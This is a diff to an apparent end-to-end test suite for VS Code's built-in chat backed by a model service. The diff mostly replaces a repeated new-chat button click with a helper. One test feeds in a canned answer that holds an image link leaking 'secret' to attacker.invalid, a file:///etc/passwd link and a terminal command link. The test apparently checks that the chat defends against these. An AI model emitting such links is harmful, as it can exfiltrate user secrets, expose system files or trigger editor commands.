@@ -18,6 +18,7 @@ import {
   modelPickerListing,
   nativeChat,
   NATIVE_CHAT_SETTINGS,
+  newNativeChat,
   openLanguageModels,
   openNativeChatInAsk,
   screenshots,
@@ -134,7 +135,7 @@ describe("VS Code's own chat with the service's models", () => {
 
   it("shows svc_llm's reasoning as its thinking, none of it in the answer, and the context meter fills from the service's usage", async () => {
     const { page } = scenario;
-    await nativeChat(page).locator('.codicon-add, [aria-label^="New Chat"]').first().click();
+    await newNativeChat(page);
     await chooseMode(page, 'Ask');
     const meter = nativeChat(page).locator('.chat-context-usage-widget').first();
     const before = (await chatRequests()).length;
@@ -156,7 +157,7 @@ describe("VS Code's own chat with the service's models", () => {
 
   it('answers about an image pasted into the question with svc_llm picked: svc_vl describes it first', async () => {
     const { page } = scenario;
-    await nativeChat(page).locator('.codicon-add, [aria-label^="New Chat"]').first().click();
+    await newNativeChat(page);
     await chooseMode(page, 'Ask');
     await focusNativeInput(page);
     // A real paste: the image on the browser's clipboard, then Ctrl+V in the chat's input.
@@ -201,7 +202,7 @@ describe("VS Code's own chat with the service's models", () => {
 
   it('@maas /kb answers from the knowledge base with the passages as references', async () => {
     const { page } = scenario;
-    await nativeChat(page).locator('.codicon-add, [aria-label^="New Chat"]').first().click();
+    await newNativeChat(page);
     await chooseMode(page, 'Ask');
     const before = (await chatRequests()).length;
     await sendNative(page, '@maas /kb Where is the API key stored?');
@@ -230,7 +231,7 @@ describe("VS Code's own chat with the service's models", () => {
       'Look: ![chart](https://attacker.invalid/c.png?d=secret), [the docs](https://docs.example/a), [a file](file:///etc/passwd) ' +
       'and [a command](command:workbench.action.terminal.new). Done.';
     for (const question of ['@maas Where are the docs?', 'Where are the docs?']) {
-      await nativeChat(page).locator('.codicon-add, [aria-label^="New Chat"]').first().click();
+      await newNativeChat(page);
       await chooseMode(page, 'Ask');
       await scenario.api('/_local/next-answer', { body: { text: answer, count: 1 } });
       await sendNative(page, question);
@@ -261,7 +262,7 @@ describe("VS Code's own chat with the service's models", () => {
     // A read-only tool that needs no confirmation: the listing of the workspace folder.
     const tool = offered.find((name) => /list_?dir|listDirectory/i.test(name)) ?? offered.find((name) => /read_?file/i.test(name));
     assert.ok(tool, `a listing or reading tool among ${offered.join(', ')}`);
-    await nativeChat(page).locator('.codicon-add, [aria-label^="New Chat"]').first().click();
+    await newNativeChat(page);
     await chooseMode(page, 'Agent');
     const before = (await chatRequests()).length;
     await sendNative(page, `Please call ${tool} on the workspace folder.`);
